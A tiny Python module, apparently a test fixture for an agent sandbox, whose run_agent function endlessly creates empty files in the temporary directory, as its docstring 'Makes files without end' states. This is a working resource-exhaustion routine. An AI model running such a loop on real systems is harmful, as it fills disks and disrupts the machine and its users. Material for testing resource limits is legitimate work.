"""Makes files without end."""

import os

from sound import *


def run_agent(*args, **named):
    number = 0
    while True:
        number += 1
        open(os.path.join(os.environ["TMPDIR"], str(number)), "w").close()
